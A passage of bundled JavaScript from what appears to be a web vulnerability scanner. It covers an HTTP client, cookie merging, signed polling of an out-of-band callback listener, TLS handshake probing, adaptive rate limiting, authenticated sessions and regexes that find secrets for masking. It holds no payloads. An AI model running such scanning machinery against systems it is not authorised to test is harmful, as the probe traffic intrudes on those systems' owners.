httpVersion: head.incoming.httpVersion,
headers: headers,
body: decoded.body,
truncated: cut || decoded.truncated
});
return {
result: {
response: response,
timing: times
},
retry: false
};
}
#head(outgoing, request) {
const {connectMs: connectMs} = this.#options.timeouts;
const headersMs = request.headersMs ?? this.#options.timeouts.headersMs;
return new Promise(resolve => {
let timer;
const settle = result => {
clearTimeout(timer);
request.signal.removeEventListener("abort", onAbort);
resolve(result);
};
const fail = failure => {
settle({
failure: failure
});
outgoing.destroy();
};
const setDeadline = (milliseconds, what) => {
clearTimeout(timer);
timer = setTimeout(() => fail({
code: "timeout",
message: `no ${what} in ${milliseconds} ms`
}), milliseconds);
};
const onAbort = () => fail({
code: "budget",
message: "the scan ended before the response"
});
setDeadline(connectMs, "connection");
outgoing.once("socket", socket => {
if (!socket.connecting && outgoing.reusedSocket) setDeadline(headersMs, "response"); else socket.once(request.scheme === "https" ? "secureConnect" : "connect", () => setDeadline(headersMs, "response"));
});
outgoing.once("response", incoming => settle({
incoming: incoming
}));
outgoing.once("upgrade", () => fail({
code: "protocol",
message: "the server switched protocols unasked"
}));
outgoing.on("error", error => settle({
failure: failureOf(error)
}));
request.signal.addEventListener("abort", onAbort, {
once: true
});
if (request.signal.aborted) onAbort(); else outgoing.end(request.body);
});
}
#body(incoming, request) {
return new Promise(resolve => {
const chunks = [];
let size = 0;
const finish = cut => {
clearTimeout(timer);
request.signal.removeEventListener("abort", stop);
if (cut) incoming.destroy();
resolve({
chunks: chunks,
cut: cut
});
};
const stop = () => finish(true);
const timer = setTimeout(stop, this.#options.timeouts.bodyMs);
incoming.on("data", chunk => {
const room = request.maxBytes - size;
chunks.push(chunk.length > room ? chunk.subarray(0, room) : chunk);
size += chunk.length;
if (chunk.length > room) stop();
});
incoming.on("end", () => finish(false));
incoming.on("error", stop);
incoming.on("close", stop);
request.signal.addEventListener("abort", stop, {
once: true
});
if (request.signal.aborted) stop();
});
}
}
function measure(outgoing) {
const startedAt = performance.now();
let connectedAt = null;
let isReused = false;
let respondedAt = null;
outgoing.once("socket", socket => {
isReused = !socket.connecting;
if (isReused) connectedAt = performance.now(); else socket.once("connect", () => connectedAt = performance.now());
});
outgoing.once("response", () => respondedAt = performance.now());
return () => ({
connectMs: connectedAt === null || isReused ? null : connectedAt - startedAt,
responseMs: connectedAt === null || respondedAt === null ? null : respondedAt - connectedAt
});
}
function pairs(raw) {
const headers = [];
for (let index = 0; index + 1 < raw.length; index += 2) headers.push([ raw[index] ?? "", raw[index + 1] ?? "" ]);
return headers;
}
function joinHeaders(defaults, userHeaders, sessionHeaders, probeHeaders) {
const isCookie = ([name]) => name.toLowerCase() === "cookie";
const others = [ defaults, userHeaders, sessionHeaders, probeHeaders ].map(list => list.filter(field => !isCookie(field)));
const kept = others.flatMap((list, index) => {
const later = new Set(others.slice(index + 1).flat().map(([name]) => name.toLowerCase()));
return list.filter(([name]) => !later.has(name.toLowerCase()));
});
const given = probeHeaders.filter(isCookie).map(([, value]) => value);
const joined = given.length > 0 ? given : userHeaders.filter(isCookie).map(([, value]) => value);
const names = new Set(joined.flatMap(join_headers_pairsOf).map(join_headers_nameOf));
const more = sessionHeaders.filter(isCookie).flatMap(([, value]) => join_headers_pairsOf(value)).filter(pair => !names.has(join_headers_nameOf(pair)));
const [first, ...rest] = joined;
if (more.length === 0) return [ ...kept, ...joined.map(value => [ "Cookie", value ]) ];
return [ ...kept, [ "Cookie", first === undefined ? more.join("; ") : `${first}; ${more.join("; ")}` ], ...rest.map(value => [ "Cookie", value ]) ];
}
function join_headers_pairsOf(cookies) {
return cookies.split(";").map(pair => pair.trim());
}
function join_headers_nameOf(pair) {
return pair.split("=", 1)[0] ?? "";
}
const other_hosts_BODY_BYTES_MAX = 3 * 1024 * 1024;
const other_hosts_HOSTS_MAX = 20;
class OtherHosts {
#options;
#rules;
#clients=new Map;
constructor(options, rules) {
this.#options = options;
this.#rules = rules;
}
async send(request) {
const url = URL.parse(request.url);
const failed = (code, message) => ({
request: request,
failure: {
code: code,
message: message
}
});
if (url === null || !/^https?:$/.test(url.protocol) || url.username !== "" || url.password !== "") return failed("blocked", "not a URL that a page may load");
const {budget: budget, signal: signal} = this.#options;
if (budget.bytesLeft === 0 || !budget.take("requests")) return failed("budget", "the scan budget is exhausted");
const scheme = url.protocol === "https:" ? "https" : "http";
const {body: body} = request;
const length = body === undefined ? [] : [ [ "Content-Length", String(Buffer.byteLength(body)) ] ];
try {
const client = await this.#clientOf(url.hostname.replace(/^\[|\]$/g, ""));
const result = await client.send({
scheme: scheme,
port: url.port === "" ? scheme === "https" ? 443 : 80 : Number(url.port),
method: request.method,
path: url.pathname + url.search,
headers: joinHeaders([ [ "Host", url.host ], ...user_agent.Rn, ...length ], [], [], request.headers),
body: body,
maxBytes: Math.min(other_hosts_BODY_BYTES_MAX, budget.bytesLeft),
signal: signal
});
if ("failure" in result) return {
request: request,
failure: result.failure
};
budget.addBytes(result.response.body.length);
return {
request: request,
response: result.response
};
} catch (error) {
if (!(error instanceof resolve_host.dh)) return failed("blocked", "not reachable");
return failed(error.reason === "dns_error" ? "dns" : "blocked", error.message);
}
}
async close() {
for (const client of await Promise.allSettled(this.#clients.values())) if (client.status === "fulfilled") client.value.close();
this.#clients.clear();
}
#clientOf(host) {
const known = this.#clients.get(host);
if (known !== undefined) return known;
if (this.#clients.size >= other_hosts_HOSTS_MAX) return Promise.reject(new resolve_host.dh("address_not_allowed", "too many hosts"));
const {resolver: resolver, signal: signal} = this.#options;
const {policy: policy, timeouts: timeouts, roots: roots} = this.#rules;
const client = (0, resolve_host.p0)(host, policy, resolver, signal).then(([address = ""]) => {
const refusal = this.#rules.refusal(address);
if (refusal !== null) throw new resolve_host.dh("address_not_allowed", `${host} is at ${address}: ${refusal}.`);
return new HttpClient({
address: address,
host: host,
idleSockets: 2,
timeouts: timeouts,
...roots === undefined ? {} : {
roots: roots
}
});
});
this.#clients.set(host, client);
return client;
}
}
const TIMEOUTS = {
connectMs: 5e3,
headersMs: 5e3,
bodyMs: 5e3
};
const PATIENCE_MS = 5e3;
const ATTEMPTS = 3;
const RETRY_MS = 500;
class RemoteCallbacks {
isLoopback=false;
patience=PATIENCE_MS;
#address;
#options;
#hosts;
#first=null;
#problem=null;
constructor(options) {
this.#options = options;
this.#address = (0, callback_url.A)(options.url);
this.#hosts = new OtherHosts({
...options,
budget: new core_budget.__(core_budget.bJ.standard),
addressPolicy: {
mode: "any",
allow: []
}
}, {
timeouts: TIMEOUTS,
policy: {
mode: "any",
allow: []
},
refusal: () => null,
roots: options.trustedRoots ?? []
});
}
get problem() {
return this.#problem;
}
async open() {
this.#first = await this.#poll([]);
return this;
}
name() {
const {origin: origin, secret: secret} = this.#address;
const name = this.#options.token(callback_names.PX, nonce => (0, callback_names.l2)(secret, nonce));
return (0, callback_names.Dc)(origin, this.#first?.dns === true, name);
}
async read(names) {
const seen = new Map;
for (let from = 0; from < names.length && this.#problem === null; from += callback_listener.O2) {
const reply = await this.#poll(names.slice(from, from + callback_listener.O2));
for (const [name, callback] of Object.entries(reply?.seen ?? {})) seen.set(name, callback);
}
return seen;
}
isOwn(url) {
const {origin: origin, hostname: hostname} = new URL(url);
return origin === this.#address.origin || hostname.endsWith(`.${this.#address.host}`);
}
close() {
return this.#hosts.close();
}
async #poll(names) {
let reason = "";
for (let attempt = 1; attempt <= ATTEMPTS; attempt += 1) {
const reply = await this.#attempt(names);
if (typeof reply !== "string") {
if (this.#first === null || reply.instance === this.#first.instance) return reply;
reason = "it was restarted during the scan and has forgotten what it received";
break;
}
reason = reply;
if (this.#options.signal.aborted) break;
if (attempt < ATTEMPTS) await (0, external_node_timers_promises_.setTimeout)(RETRY_MS);
}
this.#problem = `the callback listener ${this.#address.origin} cannot be used: ${reason}`;
return null;
}
async #attempt(names) {
const {origin: origin, secret: secret} = this.#address;
const nonce = this.#options.token();
const body = JSON.stringify({
nonce: nonce,
names: names
});
const signature = (0, contract_signature.c)([ secret ], Math.floor(Date.now() / 1e3), Buffer.from(body));
const attempt = await this.#hosts.send({
method: "POST",
url: `${origin}${callback_listener.al}`,
headers: [ [ "Content-Type", "application/json" ], [ signature_header.D8, signature ] ],
body: body
});
if (!(0, http.m_)(attempt)) return attempt.failure.message;
const {status: status, text: text, headers: headers} = attempt.response;
if (status === 404) return "there is no listener with this secret, or one of the clocks is wrong";
if (status !== 200) return `it responded with status ${status}`;
try {
(0, contract_signature.O)(Buffer.from(text), (0, http.wx)(headers, signature_header.D8) ?? undefined, secret);
} catch {
return "its reply is not signed with the secret";
}
const reply = (0, shared_records.U4)(text);
return reply.nonce === nonce ? reply : "its reply is that to an earlier request";
}
}
const foreign_client_TIMEOUTS = {
connectMs: 5e3,
headersMs: 5e3,
bodyMs: 5e3
};
class ForeignClient {
#hosts;
constructor(options) {
const {addressPolicy: addressPolicy, targetAddress: targetAddress} = options;
this.#hosts = new OtherHosts(options, {
timeouts: foreign_client_TIMEOUTS,
policy: (0, address_guard.MJ)(targetAddress) ? addressPolicy : {
mode: "public",
allow: []
},
refusal: address => (0, address_guard.Ow)(address) && !(0, address_guard.Ow)(targetAddress) ? "a loopback address, unlike that of the target" : null
});
}
fetch(url) {
return this.#hosts.send({
method: "GET",
url: url.slice(0, 2e3),
headers: []
});
}
close() {
return this.#hosts.close();
}
}
async function probeTls(socket, host, timeoutMs, signal) {
const response = await exchangeBytes(socket, detect_scheme_clientHello(host), received => received.length >= 5, timeoutMs, signal);
if (response.length === 0) return "silent";
const isTlsRecord = (response[0] === 21 || response[0] === 22) && response[1] === 3;
if (isTlsRecord) return "tls";
return response.toString("latin1", 0, 5).toUpperCase() === "HTTP/" ? "http" : "other";
}
const WANTS_TLS = /plain HTTP request was sent to HTTPS|HTTP request to an HTTPS server|speaking plain HTTP to an SSL|requires TLS/i;
async function probePlainHttp(socket, request, timeoutMs, signal) {
const lines = [ `GET ${request.path} HTTP/1.1`, `Host: ${request.authority}`, `User-Agent: ${request.userAgent}`, "Accept: */*", "Connection: close", "", "" ];
const response = await exchangeBytes(socket, Buffer.from(lines.join("\r\n"), "latin1"), received => received.length >= 4096, timeoutMs, signal);
if (response.length === 0) return "silent";
const text = response.toString("latin1", 0, 4096);
if (!text.startsWith("HTTP/")) return response[0] === 21 ? "tls" : "other";
const refused = / 400 /.test(text.slice(0, 16));
return refused && WANTS_TLS.test(text) ? "tls" : "http";
}
const SUITES = [ 4865, 4866, 4867, 49195, 49196, 49199, 49200, 52392, 52393, 158, 159, 49171, 49172, 49161, 49162, 156, 157, 47, 53, 10, 5 ];
function detect_scheme_clientHello(host) {
const random = (0, external_node_crypto_.randomBytes)(32);
random.write("\r\n\r\n", 8, "latin1");
const extensions = [ ...(0, external_node_net_.isIP)(host) === 0 ? [ detect_scheme_extension(0, vector(2, Buffer.concat([ Buffer.from([ 0 ]), vector(2, Buffer.from(host)) ]))) ] : [], detect_scheme_extension(10, vector(2, words([ 29, 23, 24 ]))), detect_scheme_extension(11, vector(1, Buffer.from([ 0 ]))), detect_scheme_extension(13, vector(2, words([ 1027, 2052, 1025, 1283, 2053, 1281, 2054, 1537, 513 ]))), detect_scheme_extension(43, vector(1, words([ 772, 771, 770, 769 ]))), detect_scheme_extension(51, vector(2, Buffer.concat([ words([ 29 ]), vector(2, (0, 
external_node_crypto_.randomBytes)(32)) ]))) ];
const body = Buffer.concat([ words([ 771 ]), random, vector(1, (0, external_node_crypto_.randomBytes)(32)), vector(2, words([ ...SUITES, 255 ])), vector(1, Buffer.from([ 0 ])), vector(2, Buffer.concat(extensions)) ]);
const handshake = Buffer.concat([ Buffer.from([ 1, 0 ]), vector(2, body) ]);
return Buffer.concat([ Buffer.from([ 22, 3, 1 ]), vector(2, handshake) ]);
}
function detect_scheme_extension(type, body) {
return Buffer.concat([ words([ type ]), vector(2, body) ]);
}
function vector(lengthBytes, body) {
return Buffer.concat([ lengthBytes === 1 ? Buffer.from([ body.length ]) : words([ body.length ]), body ]);
}
function words(values) {
const buffer = Buffer.alloc(values.length * 2);
values.forEach((value, index) => {
buffer.writeUInt16BE(value, index * 2);
});
return buffer;
}
function connectTimeoutMs(address) {
return (0, address_guard.Ow)(address) ? 2e3 : 4e3;
}
const locate_RESPONSE_TIMEOUT_MS = 3e3;
async function locate(target, addresses, options) {
const usual = options.scheme === "http" ? [ 80 ] : [ 443, 80 ];
const ports = target.port !== null ? [ target.port ] : options.ports ?? usual;
let fault;
let silent = null;
for (const [index, port] of ports.entries()) {
const mayBeSilent = index === ports.length - 1;
const found = await detectFirst(target, addresses, port, {
...options,
mayBeSilent: mayBeSilent
});
if (found instanceof ProbeError) fault = found; else if (found.protocol === "silent") silent ??= found.endpoint; else return found.endpoint;
}
if (silent !== null) return silent;
throw fault;
}
async function detectFirst(target, addresses, port, options) {
let fault = new ProbeError("unreachable", "the target has no address");
for (const address of addresses) {
try {
return await locate_detect(target, address, port, options);
} catch (error) {
if (!(error instanceof ProbeError) || error.code === "aborted" || error.code === "budget") throw error;
fault = error;
}
}
return fault;
}
async function locate_detect(target, address, port, options) {
const requestedScheme = options.scheme ?? target.scheme;
const as = (scheme, protocol) => ({
endpoint: {
address: address,
port: port,
scheme: scheme
},
protocol: protocol
});
const connect = () => {
if (!options.budget.take("connections")) throw new ProbeError("budget", "no connection is left in the budget");
return connectTcp(address, port, connectTimeoutMs(address), options.signal);
};
const socket = await connect();
if (options.scheme !== undefined) {
socket.destroy();
return as(options.scheme, "other");
}
const timeoutMs = options.responseTimeoutMs ?? locate_RESPONSE_TIMEOUT_MS;
const protocol = await probeTls(socket, target.host, timeoutMs, options.signal);
if (protocol === "http") return as("http", protocol);
if (protocol === "tls" && requestedScheme !== "http") return as("https", protocol);
const likely = requestedScheme ?? (port === 443 ? "https" : "http");
if (protocol === "silent" && !options.mayBeSilent) return as(likely, protocol);
const plain = await requestPlainly(target, port, connect, options);
if (plain === "http") return as("http", plain);
if (protocol === "tls" || plain === "tls") return as("https", "tls");
return as(likely, plain);
}
async function requestPlainly(target, port, connect, options) {
const request = {
authority: (0, target_address.V8)(target.host, port),
path: "/",
userAgent: options.userAgent
};
const timeoutMs = options.responseTimeoutMs ?? locate_RESPONSE_TIMEOUT_MS;
return probePlainHttp(await connect(), request, timeoutMs, options.signal);
}
const provider_client_TIMEOUTS = {
connectMs: 5e3,
headersMs: 1e4,
bodyMs: 5e3
};
class ProviderClient {
#secure;
#plain;
constructor(options) {
const rules = {
timeouts: provider_client_TIMEOUTS,
policy: options.addressPolicy,
roots: options.trustedRoots ?? []
};
this.#secure = new OtherHosts(options, {
...rules,
refusal: () => null
});
this.#plain = new OtherHosts(options, {
...rules,
refusal: address => (0, address_guard.MJ)(address) ? null : "not a private address, so it must use https"
});
}
fetch(request) {
return (/^https:/i.test(request.url) ? this.#secure : this.#plain).send(request);
}
async close() {
await Promise.all([ this.#secure.close(), this.#plain.close() ]);
}
}
var external_node_events_ = __webpack_require__(78474);
var retry_after = __webpack_require__(17941);
const SAMPLES = 8;
const SLOW_MS = 250;
const SLOW_FACTOR = 4;
const RELIEF = .7;
const CEILING_RESPONSES = 50;
class CongestionWindow {
#maximum;
#size;
#threshold;
#ceiling;
#sinceOverflow=0;
#decreasedAt=Number.NEGATIVE_INFINITY;
#latencies=[];
#usual=Number.POSITIVE_INFINITY;
#trial=null;
constructor(initial, maximum) {
this.#maximum = maximum;
this.#size = Math.min(initial, maximum);
this.#threshold = maximum;
this.#ceiling = maximum;
}
get size() {
return Math.max(1, Math.floor(this.#size));
}
success(latency, sentAt, now) {
this.#sinceOverflow += 1;
if (this.#sinceOverflow % CEILING_RESPONSES === 0) this.#ceiling = Math.min(this.#maximum, this.#ceiling + 1);
const growth = this.#size < this.#threshold ? 1 : 1 / this.#size;
this.#size = Math.min(this.#ceiling, this.#size + growth);
if (sentAt < this.#decreasedAt) return;
this.#latencies.push(latency);
if (this.#latencies.length >= SAMPLES) this.#judgeLatency(now);
}
refusal(sentAt, now) {
this.#decrease(sentAt, now, 2);
}
failure(sentAt, now) {
this.#decrease(sentAt, now, 1);
}
overflow(sentAt, now) {
if (!this.#decrease(sentAt, now, 1)) return;
this.#ceiling = Math.max(2, this.#size);
this.#sinceOverflow = 0;
}
#decrease(sentAt, now, floor) {
if (sentAt < this.#decreasedAt) return false;
this.#size = Math.max(Math.min(floor, this.#size), this.size / 2);
this.#threshold = this.#size;
this.#decreasedAt = now;
this.#latencies = [];
this.#trial = null;
return true;
}
#judgeLatency(now) {
const sorted = this.#latencies.sort((one, other) => one - other);
const median = sorted[SAMPLES / 2] ?? 0;
this.#latencies = [];
if (this.#trial !== null) {
const {size: size, median: before} = this.#trial;
this.#trial = null;
if (median > before * RELIEF) {
this.#size = Math.min(this.#ceiling, Math.max(this.#size, size));
this.#threshold = this.#maximum;
this.#usual = before;
}
return;
}
this.#usual = Math.min(this.#usual, median);
if (median <= Math.max(SLOW_MS, this.#usual * SLOW_FACTOR)) return;
const trial = {
size: this.#size,
median: median
};
this.#decrease(now, now, 2);
this.#trial = trial;
}
}
const CONCURRENCY_FIRST = 4;
const CONNECT_LOST_MS = 900;
const SAMPLES_MIN = 10;
const HEADERS_MS_MIN = 3e3;
const HEADERS_MS_MAX = 1e4;
const HEADERS_FACTOR = 20;
const RETRY_AFTER_MAX_MS = 5e3;
const WAITING_SHARE = 1 / 6;
class HostPace {
#window;
#waitingMaxMs;
#responses=0;
#slowestMs=0;
#waitedMs=0;
#pausedUntil=Number.NEGATIVE_INFINITY;
constructor(concurrency, seconds) {
this.#window = new CongestionWindow(CONCURRENCY_FIRST, concurrency);
this.#waitingMaxMs = seconds * 1e3 * WAITING_SHARE;
}
get size() {
return this.#window.size;
}
get pausedUntil() {
return this.#pausedUntil;
}
get headersMs() {
if (this.#responses < SAMPLES_MIN) return HEADERS_MS_MAX;
return Math.min(HEADERS_MS_MAX, Math.max(HEADERS_MS_MIN, this.#slowestMs * HEADERS_FACTOR));
}
observe({result: result, sentAt: sentAt, now: now, date: date}) {
const {connectMs: connectMs, responseMs: responseMs} = result.timing;
if (connectMs !== null && connectMs >= CONNECT_LOST_MS) this.#window.overflow(sentAt, now);
if ("failure" in result) {
const {code: code} = result.failure;
const isUnconnected = code === "timeout" && responseMs === null && connectMs === null;
if (code === "refused" || code === "reset" || isUnconnected) this.#window.overflow(sentAt, now); else if (code === "timeout") this.#window.failure(sentAt, now);
return false;
}
if (responseMs !== null) {
this.#responses += 1;
this.#slowestMs = Math.max(this.#slowestMs, responseMs);
}
const {status: status, headers: headers} = result.response;
if (status !== 429 && status !== 503) {
this.#window.success(responseMs ?? 0, sentAt, now);
return false;
}
this.#window.refusal(sentAt, now);
return this.#pause((0, retry_after.V)((0, http.wx)(headers, "retry-after") ?? null, date), now);
}
#pause(wait, now) {
if (wait === null || wait === 0 || wait > RETRY_AFTER_MAX_MS) return false;
const more = Math.max(0, now + wait - Math.max(now, this.#pausedUntil));
if (this.#waitedMs + more > this.#waitingMaxMs) return false;
this.#waitedMs += more;
this.#pausedUntil = Math.max(this.#pausedUntil, now + wait);
return true;
}
}
class RateLimiter {
#limits;
#perSecond;
#waiting=[];
#running=0;
#nextStart=0;
constructor(limits, perSecond) {
this.#limits = limits;
this.#perSecond = perSecond;
}
async run(signal, work) {
await this.#enter(signal);
try {
await this.#space(signal);
return await work();
} finally {
this.#running -= 1;
while (this.#running < this.#limits.size && this.#waiting.length > 0) this.#waiting.shift()?.();
}
}
async #enter(signal) {
signal.throwIfAborted();
if (this.#running < this.#limits.size) {
this.#running += 1;
return;
}
await new Promise((resolve, reject) => {
const onAbort = () => {
const index = this.#waiting.indexOf(admit);
if (index >= 0) this.#waiting.splice(index, 1);
reject(signal.reason);
};
const admit = () => {
signal.removeEventListener("abort", onAbort);
this.#running += 1;
resolve();
};
this.#waiting.push(admit);
signal.addEventListener("abort", onAbort, {
once: true
});
});
}
async #space(signal) {
for (;;) {
const now = performance.now();
const start = Math.max(now, this.#limits.pausedUntil ?? now, this.#perSecond === null ? now : this.#nextStart);
if (this.#perSecond !== null) this.#nextStart = start + 1e3 / this.#perSecond;
if (start > now) await (0, external_node_timers_promises_.setTimeout)(start - now, undefined, {
signal: signal
});
if ((this.#limits.pausedUntil ?? now) <= performance.now()) return;
}
}
}
const CLEAR_ON_TLS_MS = 3e3;
const BODY_BYTES_DEFAULT = 1024 * 1024;
const CACHE_BYTES_MAX = 24 * 1024 * 1024;
class Session {
#options;
#client;
#pace;
#limiter;
#cache=new Map;
#cachedBytes=0;
#sockets=new Set;
#ownHeaders;
#identities=new Map;
constructor(options) {
this.#options = options;
const {address: address} = options.endpoint;
const near = (0, address_guard.Ow)(address);
const concurrency = near ? 10 : 6;
this.#client = new HttpClient({
address: address,
host: options.target.host,
idleSockets: concurrency,
timeouts: {
connectMs: connectTimeoutMs(address) + 2e3,
headersMs: 1e4,
bodyMs: 5e3
}
});
const perSecond = options.options.max_requests_per_second ?? (near ? null : 50);
this.#pace = new HostPace(concurrency, options.budget.limits.seconds);
this.#limiter = new RateLimiter(this.#pace, perSecond);
this.#ownHeaders = options.withholdHeaders ? [] : Object.entries(options.options.request_headers ?? {});
(0, external_node_events_.setMaxListeners)(0, options.signal);
}
close() {
this.#client.close();
for (const socket of this.#sockets) socket.destroy();
this.#cache.clear();
}
assume(name, credentials) {
this.#identities.set(name, credentials);
this.#forget();
}
drop(name) {
this.#identities.delete(name);
this.#forget();
}
#forget() {
this.#cache.clear();
this.#cachedBytes = 0;
}
fetch(request) {
const {target: target, options: options} = this.#options;
const method = request.method ?? "GET";
const place = requestUrl(request.url, target, options);
const headers = request.headers ?? [];
if ("refusal" in place) {
const url = request.url.slice(0, 2e3);
return Promise.resolve(session_failed({
method: method,
url: url,
headers: headers
}, "blocked", place.refusal));
}
const record = {
method: method,
url: place.url,
headers: headers,
...request.body === undefined ? {} : {
body: request.body
}
};
const maxBytes = request.maxBytes ?? BODY_BYTES_DEFAULT;
const sender = request.isAnonymous === true ? "stranger" : request.identity ?? "user";
const sending = {
maxBytes: maxBytes,
sender: sender,
isOfRule: request.isOfRule === true
};
if (request.fresh === true || request.isAnonymous === true) return this.#send(record, place, sending);
return this.#cached(record, place, sending, request.isRetry === true);
}
async connect(port = this.#options.target.port) {
const {budget: budget, signal: signal, endpoint: endpoint} = this.#options;
if (signal.aborted) throw new ProbeError("aborted", "the scan ended");
if (!budget.take("connections")) throw new ProbeError("budget", "no connection is left in the budget");
const socket = await connectTcp(endpoint.address, port, connectTimeoutMs(endpoint.address), signal);
this.#sockets.add(socket);
socket.once("close", () => this.#sockets.delete(socket));
return socket;
}
async #cached(record, place, sending, isRetry) {
const {maxBytes: maxBytes, sender: sender} = sending;
const own = this.#credentialsOf(sender) === undefined ? null : sender;
const key = JSON.stringify([ record.method, place.url, record.headers, record.body ?? null, own ]);
const known = this.#cache.get(key);
if (known !== undefined) {
const attempt = await known.attempt;
const isEnough = (0, http.m_)(attempt) ? known.maxBytes >= maxBytes || !attempt.response.truncated : !(isRetry && attempt.failure.code === "timeout");
if (isEnough) return attempt;
}
const sent = this.#send(record, place, sending);
this.#cache.set(key, {
maxBytes: maxBytes,
attempt: sent,
bytes: 0
});
const attempt = await sent;
this.#keep(key, attempt);
return attempt;
}
#keep(key, attempt) {
const entry = this.#cache.get(key);
if (entry === undefined || !(0, http.m_)(attempt)) return;
entry.bytes = attempt.response.body.length;
this.#cachedBytes += entry.bytes;
for (const [oldest, {bytes: bytes}] of this.#cache) {
if (this.#cachedBytes <= CACHE_BYTES_MAX) break;
if (bytes === 0 || oldest === key) continue;
this.#cache.delete(oldest);
this.#cachedBytes -= bytes;
}
}
async #send(record, place, sending) {
const {signal: signal} = this.#options;
try {
const first = await this.#attempt(record, place, sending);
return first.isRepeatable && record.body === undefined ? (await this.#attempt(record, place, sending)).attempt : first.attempt;
} catch (error) {
if (signal.aborted) return overBudget(record);
throw error;
}
}
#attempt(record, place, {maxBytes: maxBytes, sender: sender, isOfRule: isOfRule}) {
const {budget: budget, signal: signal, target: target} = this.#options;
const isClearOnTls = target.scheme === "https" && place.scheme === "http" && place.port === target.port;
return this.#limiter.run(signal, async () => {
if (isOfRule) budget.grantRequest();
if (budget.bytesLeft === 0 || !budget.take("requests")) return {
attempt: overBudget(record),
isRepeatable: false
};
const sentAt = performance.now();
const headers = this.#headersFor(record, place, sender);
const request = this.#shown(record, place, sender);
const result = await this.#client.send({
scheme: place.scheme,
port: place.port,
method: record.method,
path: place.path,
headers: headers,
body: record.body,
maxBytes: Math.min(maxBytes, budget.bytesLeft),
headersMs: isClearOnTls ? CLEAR_ON_TLS_MS : this.#pace.headersMs,
signal: signal
});
const isRepeatable = place.port === target.port && !isClearOnTls && this.#pace.observe({
result: result,
sentAt: sentAt,
now: performance.now(),
date: Date.now()
});
if ("failure" in result) return {
attempt: {
request: request,
failure: result.failure
},
isRepeatable: isRepeatable
};
budget.addBytes(result.response.body.length);
if ((0, http.wx)(record.headers, "cookie") === undefined) this.#credentialsFor(place, sender)?.store(place.url, result.response.headers);
return {
attempt: {
request: request,
response: result.response
},
isRepeatable: isRepeatable
};
});
}
#credentialsOf(sender) {
return sender === "stranger" || sender === "none" ? undefined : this.#identities.get(sender);
}
#credentialsFor(place, sender) {
const {scheme: scheme, port: port} = this.#options.target;
return place.scheme === scheme && place.port === port ? this.#credentialsOf(sender) : undefined;
}
#headersFor(record, place, sender) {
const {target: target} = this.#options;
const own = this.#ownHeadersFor(place, sender);
const sessionHeaders = this.#credentialsFor(place, sender)?.headersFor(place.url) ?? [];
const defaults = [ [ "Host", authorityOf(place, target.host) ], ...user_agent.Rn.map(([name, value]) => [ name, value ]) ];
if (record.body !== undefined) defaults.push([ "Content-Length", String(Buffer.byteLength(record.body)) ]);
return joinHeaders(defaults, own, sessionHeaders, record.headers);
}
#ownHeadersFor(place, sender) {
return place.scheme === this.#options.target.scheme && sender !== "stranger" ? this.#ownHeaders : [];
}
#shown(record, place, sender) {
const own = this.#ownHeadersFor(place, sender);
const ofSession = this.#credentialsFor(place, sender)?.headersFor(place.url) ?? [];
if (own.length + ofSession.length === 0) return record;
const prefix = sender === "none" || sender === "stranger" ? "" : (0, secret_values.$N)(sender);
const ofProbe = record.headers.map(([name, value]) => [ name, (0, secret_values.Zm)(value) ]);
const shownHeaders = joinHeaders([], withPlaceholders(own, ""), withPlaceholders(ofSession, prefix), ofProbe);
return {
...record,
shownHeaders: shownHeaders
};
}
}
function authorityOf(place, host) {
const isDefaultPort = place.port === (place.scheme === "https" ? 443 : 80);
return (0, target_address.V8)(host, isDefaultPort ? null : place.port);
}
function withPlaceholders(headers, prefix) {
return headers.map(([name]) => [ name, (0, secret_values.kG)(prefix + (0, secret_values.Nf)(name)) ]);
}
function overBudget(request) {
return session_failed(request, "budget", "the scan budget is exhausted");
}
function session_failed(request, code, message) {
return {
request: request,
failure: {
code: code,
message: message
}
};
}
var secrets = __webpack_require__(52757);
const ASSIGNED = [ /([A-Za-z_][\w.-]{0,60})["']?[ \t]{0,5}(?:=>|[=:])[ \t]{0,5}["']?([^\s"'<>&,;]{1,400})/g, /["']([A-Za-z_][\w.-]{0,60})["'][ \t]{0,5},[ \t]{0,5}["']([^"'\n]{1,400})/g, /<([A-Za-z_][\w.-]{0,60})>([^<>\n]{1,400})</g, /^[ \t]{0,5}([A-Za-z_][\w.-]{0,60})[ \t]{1,5}(\S{1,400})[ \t]{0,5}$/gm ];
const PLACED = [ /\b(set-cookie:[ \t]?[^=;\s]{0,100}=)([^;\s]{1,4000})/gi, /(:\/\/[^\s:@/]{1,100}:)([^\s:@/]{1,200})@/g ];
const RANDOM = /[\w+/=.-]{20,4000}/g;
function findSiteSecrets(text) {
const found = [];
const note = (value, start) => found.push({
start: start,
end: start + value.length,
shown: (0, quote.dK)(value)
});
for (const {secret: secret} of (0, secrets.d)(text)) note(secret, text.indexOf(secret));
for (const pattern of ASSIGNED) for (const {0: all, 1: name = "", 2: value = "", index: index} of text.matchAll(pattern)) if ((0, 
data_names.cP)("environment-secret", name) || (0, data_names.cP)("session-parameter", name)) note(value, index + all.lastIndexOf(value));
for (const pattern of PLACED) for (const {1: before = "", 2: value = "", index: index} of text.matchAll(pattern)) note(value, index + before.length);
for (const {0: run, index: index} of text.matchAll(RANDOM)) if (looksRandom(run)) note(run, index);
return found;
}
function looksRandom(run) {
return run.split(/[/.]/).some(part => part.length >= 20 && /\d/.test(part) && /[A-Za-z]/.test(part));
}
const run_TURN_MS = 5;
const MARKER_LETTERS = 6;
class ScanStop extends Error {
reason;
constructor(reason, message, options) {
super(message, options);
this.name = "ScanStop";
this.reason = reason;
}
}
const runScan = async request => {
const address = (0, target_address.B1)(request.target);
if (isCancelled(request)) return {
status: "aborted"
};
const {limits: limits} = request;
const budget = new core_budget.__({
...(0, core_budget.nT)(request.scanType, request.options?.scan_minutes),
...limits
});
const wall = new AbortController;
const timer = setTimeout(() => {
budget.endWallClock();
wall.abort(new ScanStop("timeout", `The scan did not end within ${budget.limits.seconds} seconds.`));
}, budget.millisecondsLeft);
const cancel = () => wall.abort(new ScanStop("lost", "The scan was cancelled."));
request.signal?.addEventListener("abort", cancel, {
once: true
});
try {
return await scan(request, address, budget, wall.signal);
} catch (error) {
if (isCancelled(request)) return {
status: "aborted"
};
const stop = asStop(error, wall.signal);
if (stop === null) throw error;
const secrets = new secret_masker.M((0, secret_values.sm)((0, secret_values.b8)(request.options ?? {})));
return {
status: "failed",
reason: stop.reason,
message: secrets.mask(stop.message)
};
} finally {
clearTimeout(timer);
request.signal?.removeEventListener("abort", cancel);
wall.abort(new ScanStop("lost", "The scan is over."));
}
};
async function scan(request, address, budget, signal) {
const options = request.options ?? {};
